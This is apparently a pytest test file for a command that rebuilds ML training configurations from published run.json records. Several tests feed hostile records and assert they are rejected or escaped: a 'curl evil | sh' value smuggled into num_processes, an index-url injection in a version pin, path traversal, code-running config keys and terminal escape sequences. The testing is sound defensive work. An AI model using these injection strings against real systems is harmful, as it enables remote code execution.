"""``recipes reproduce``: the restored configuration, reported differences, and hostile records."""

from __future__ import annotations

import json
import shlex

import pytest
import yaml
from tests.forked import ROOT
from tests.publish.hub_server import Fault

from recipes_lib.commands import reproduce
from recipes_lib.config.loader import load_config
from recipes_lib.config.schema import flatten_config
from recipes_lib.config.table import RECIPE_NAMES, load_table
from recipes_lib.environment import read_versions
from recipes_lib.publish.card import make_portable

COMMIT = "c" * 40
GIVEN = {
    "model_name_or_path": "owner/base",
    "chat_template_path": "recipes/configs/chat_templates/zephyr.jinja",
    "dataset_name": "owner/chats",
    "dataset_revision": COMMIT,
    "output_dir": "runs/mine",
    "learning_rate": 1e-5,
    "lr_scheduler_type": "cosine",
    "push_to_hub": True,
    "hub_model_id": "me/mine",
    "save_steps": 7,
}


@pytest.fixture
def record(tmp_path, monkeypatch):
    """Return the published ``run.json`` of an SFT run."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(reproduce, "read_git_commit", lambda: COMMIT)
    (tmp_path / "sft.yaml").write_text(yaml.safe_dump(GIVEN))
    config = load_config("sft", ["--config", "sft.yaml"])
    return make_portable(
        {
            "stage": "sft",
            "config": json.loads(json.dumps(flatten_config(config), default=str)),
            "provenance": dict(config.provenance),
            "versions": read_versions(),
            "num_processes": 1,
            "git_commit": COMMIT,
            "model_commit": "b" * 40,
            "hardware": {"device": "NVIDIA H200"},
            "data": {"inputs": {"sources": {"train": "9604a55826332cb08ea7"}}},
        }
    )


@pytest.fixture
def run(record, tmp_path, recipes):
    def run(*flags, code=0, **changes):
        folder = tmp_path / "published"
        folder.mkdir(exist_ok=True)
        (folder / "run.json").write_text(json.dumps(record | changes))
        return recipes("reproduce", folder, *flags, code=code)

    return run


def load(tmp_path):
    """Return the restored configuration."""
    return load_config("sft", ["--config", str(tmp_path / "reproduced" / "published" / "sft.yaml")])


def test_restored_config_equals_original(run, tmp_path):
    output = run()
    again = flatten_config(load(tmp_path))
    first = flatten_config(load_config("sft", ["--config", "sft.yaml"]))
    differing = {key for key in first if first[key] != again.get(key)}
    assert differing == {"output_dir", "push_to_hub", "hub_model_id", "model_revision"}
    assert again["model_revision"] == "b" * 40
    assert not again.get("push_to_hub")
    assert "-c reproduced/published/constraints.txt recipes-lib\n" in output
    assert f"python {shlex.quote(str(ROOT / 'recipes/sft.py'))} --config reproduced/published/sft.yaml" in output
    assert (
        f"transformers=={read_versions()['transformers']}"
        in (tmp_path / "reproduced/published/constraints.txt").read_text()
    )


def test_commands_in_a_clone_are_for_its_code(run, tmp_path):
    (tmp_path / "recipes").mkdir()
    (tmp_path / "recipes" / "sft.py").touch()
    output = run()
    assert "-c reproduced/published/constraints.txt -e .\n" in output
    assert "python recipes/sft.py --config reproduced/published/sft.yaml" in output


def test_only_unverifiable_facts_are_reported_as_different(run, monkeypatch):
    assert [line for line in run().splitlines() if line.startswith("differs: ")] == [
        "differs: data: the train rows had the fingerprint 9604a55826332cb0; `recipes prepare` records yours",
        "differs: device: it was 1 x NVIDIA H200; other devices round differently",
    ]
    monkeypatch.setattr(reproduce, "read_git_commit", lambda: f"{COMMIT}-dirty")
    assert "differs: the code had uncommitted changes" in run(git_commit=f"{COMMIT}-dirty")


def test_changed_defaults_are_written_and_removed_keys_reported(record):
    record["config"]["weight_decay"] = 0.123  # The default of an earlier version.
    record["config"]["warmup_of_old"] = 0.1
    keys, lost = reproduce.restore_keys(record)
    assert keys["weight_decay"] == 0.123
    # Neither the place of the run, nor values that follow from others, nor defaults.
    given = GIVEN.keys() - {"output_dir", "push_to_hub", "hub_model_id"}
    assert keys.keys() == given | {"weight_decay", "model_revision"}
    assert lost == ["the key warmup_of_old, which was 0.1, no longer exists"]


@pytest.mark.parametrize("recipe", RECIPE_NAMES)
def test_explicit_null_is_kept(recipe):
    table = load_table(recipe)
    optional = {key for key in table.keys if table.keys[key].accepts("null") and not key.startswith(("hub_", "run_"))}
    optional -= {"prepared_dir", "push_to_hub"}
    on = {key for key in optional if table.keys[key].default is not None}
    assert on >= {"save_total_limit"}
    record = {"stage": recipe, "config": dict.fromkeys(optional), "provenance": dict.fromkeys(optional, "sft.yaml:1")}
    keys, _ = reproduce.restore_keys(record)
    assert keys == dict.fromkeys(on)


def test_explicit_null_overrides_default_limit(run, record, tmp_path):
    config, provenance = record["config"], record["provenance"]
    run(config=config | {"save_total_limit": None}, provenance=provenance | {"save_total_limit": "sft.yaml:9"})
    assert load(tmp_path).training["save_total_limit"] is None


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"versions": {"python": "3.4", "torch": "1.0"}}, ["python was 3.4", "torch was 1.0 and is"]),
        ({"git_commit": "a" * 40}, [f"commit {'a' * 40} and is at {COMMIT}"]),
        ({"num_processes": 8}, ["8 x NVIDIA H200", "torchrun --nproc_per_node 8 "]),
        # Ranks that shared rows, as under tensor parallelism.
        ({"num_processes": 8, "rows_per_step": 4}, ["a step had 4 rows, and has 64 in data", "recipes launch"]),
    ],
)
def test_differences_of_environment_are_reported(run, changes, words):
    output = run(**changes)
    assert all(word in output for word in words), output


def test_local_files_and_unpinned_data_are_reported(record):
    keys = {"dataset_name": "chats.jsonl", "model_name_or_path": "base", "chat_template_path": "chat.jinja"}
    differences = " ".join(reproduce.compare(record, keys))
    for key, name in keys.items():
        assert f"{key}: {name} was a file or folder of the machine" in differences


PINNED, UNPINNED = {"name": "owner/pinned", "revision": COMMIT}, {"name": "owner/chats"}


@pytest.mark.parametrize(
    ("keys", "place"),
    [
        ({"dataset_name": "owner/chats"}, "dataset_name"),
        ({"replay_dataset": "owner/chats"}, "replay_dataset"),
        ({"dataset_mixture": [PINNED, UNPINNED]}, "dataset_mixture[1]"),
        ({"eval_datasets": {"old": PINNED, "new": UNPINNED}}, "eval_datasets[new]"),
        ({"dataset_name": "owner/pinned", "dataset_revision": COMMIT}, None),
        ({"dataset_mixture": ["owner/chats", 1], "eval_datasets": 1}, None),  # Invalid, which is reported elsewhere.
    ],
)
def test_every_unpinned_dataset_is_reported(record, keys, place):
    unpinned = [line for line in reproduce.compare(record, keys) if "was not pinned" in line]
    assert [line.partition(": owner/chats ")[0] for line in unpinned] == [place] * (place is not None)


def test_invalid_restored_config_is_rejected_with_lines(run, record):
    error = run(config=record["config"] | {"learning_rate": -1.0}, code=2)
    assert "learning_rate" in error
    assert "sft.yaml:" in error


HOSTILE = "1.0\n--index-url http://evil\n#"


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"versions": {"torch": HOSTILE}}, "versions"),
        ({"versions": {"torch": "2.13.0\n"}}, "versions"),
        ({"versions": {"torch @ http://evil/x.whl": "1.0"}}, "versions"),
        ({"versions": ["torch"]}, "versions"),
        ({"versions": {"torch": "notinstalled"}}, "versions"),
        ({"versions": {"torch": 2}}, "versions"),
        ({"num_processes": "1; curl evil | sh #"}, "num_processes"),
        ({"num_processes": True}, "num_processes"),
        ({"num_processes": 0}, "num_processes"),
        ({"stage": ["sft"]}, "stage"),
        ({"stage": "../evil"}, "stage"),
        ({"config": []}, "config"),
        ({"provenance": {"seed": 1}}, "provenance"),
        ({"model_commit": "main\n"}, "model_commit"),
        ({"git_commit": 5}, "git_commit"),
        ({"hardware": "x"}, "hardware"),
        ({"data": 1}, "data"),
    ],
)
def test_malformed_record_is_rejected(run, tmp_path, changes, field):
    assert field in run(**changes, code=2).splitlines()[0], "no command is printed"
    assert not (tmp_path / "reproduced").exists()


def test_keys_that_run_code_are_not_restored(run, record, tmp_path):
    evil = {"metrics": ["os:system\nseed: 1"], "trust_remote_code": True, "attn_implementation": "evil/kernels"}
    provenance = dict.fromkeys(evil, "sft.yaml:1")
    output = run(config=record["config"] | evil, provenance=record["provenance"] | provenance)
    flat = flatten_config(load(tmp_path))
    assert [flat[key] for key in evil] == [None, False, None]
    text = (tmp_path / "reproduced/published/sft.yaml").read_text()
    for key, value in evil.items():
        assert f"# {key}: {json.dumps(value)}\n" in text
        assert f"differs: the key {key}, which was " in output


def test_keys_that_run_code_are_recognised_by_their_help():
    """A new key whose help mentions an import path must be added to ``runs_code``."""
    for recipe in RECIPE_NAMES:
        for name, key in load_table(recipe).keys.items():
            imports = any(words in key.help for words in ("package.module", "import path", "Run code"))
            assert imports == reproduce.runs_code(name, "x"), (recipe, name, key.help)


def test_control_characters_of_record_are_escaped(run, record, tmp_path):
    config = record["config"] | {"dataset_name": "a\x1b[2Jb\nsame run: evil", "gone\x07": 1}
    output = run(config=config, hardware={"device": "\x1b]0;H200\x07"}, data={"inputs": {"sources": [1]}}, code=2)
    assert all(char.isprintable() or char == "\n" for char in output)
    assert r"a\x1b[2Jb\nsame run: evil was a file or folder" in output
    assert not any(line.startswith("same run:") for line in output.splitlines()), "the name is rejected"


def test_paths_are_quoted_in_commands(run, tmp_path):
    folder = tmp_path / "a; id"
    output = run("--output", folder)
    command = next(line for line in output.splitlines() if line.startswith("same run:")).partition(":")[2]
    assert shlex.split(command)[-1] == str(folder / "sft.yaml")


def test_current_folder_is_accepted(recipes, run, tmp_path, monkeypatch):
    run()
    monkeypatch.chdir(tmp_path / "published")
    recipes("reproduce", ".")
    assert (tmp_path / "published" / "reproduced" / "published" / "sft.yaml").is_file()


def test_record_is_fetched_from_hub_at_revision(hub, record, run, tmp_path, monkeypatch, recipes):
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_CACHE", str(tmp_path / "cache"))
    repository = hub.add("me/mine", private=True, files={"run.json": json.dumps(record).encode()})
    repository.tags["step-5"] = repository.find("main").oid
    recipes("reproduce", "me/mine", "--revision", "step-5", "--output", tmp_path / "again")
    assert (tmp_path / "again" / "sft.yaml").is_file()
    assert "its run.json cannot be fetched" in recipes("reproduce", "me/nothing", code=2)


@pytest.mark.parametrize(
    ("fault", "words"),
    [
        (Fault(cut="before"), "the connection to the Hub failed (ReadError)\n    run the same command again"),
        (Fault(200, {"Content-Length": "5"}, b"{"), "the connection to the Hub failed (RemoteProtocolError)\n    run"),
        (Fault(403), "the Hub answers 403\n    take a token that may read it"),
    ],
    ids=["reset", "truncated", "forbidden"],
)
def test_failed_download_has_its_reason(hub, run, tmp_path, monkeypatch, recipes, pauses, fault, words):
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_CACHE", str(tmp_path / "cache"))
    hub.add("me/mine", private=True, files={"run.json": b"{}"})
    hub.sabotage = lambda kind: fault
    assert words in recipes("reproduce", "me/mine", code=2)


@pytest.mark.parametrize(
    ("text", "message"), [("{", "is not JSON"), ("{}", "`stage` is missing"), (None, "run.json cannot be read")]
)
def test_folder_without_run_is_rejected(tmp_path, recipes, text, message):
    if text is not None:
        (tmp_path / "run.json").write_text(text)
    assert message in recipes("reproduce", tmp_path, code=2)
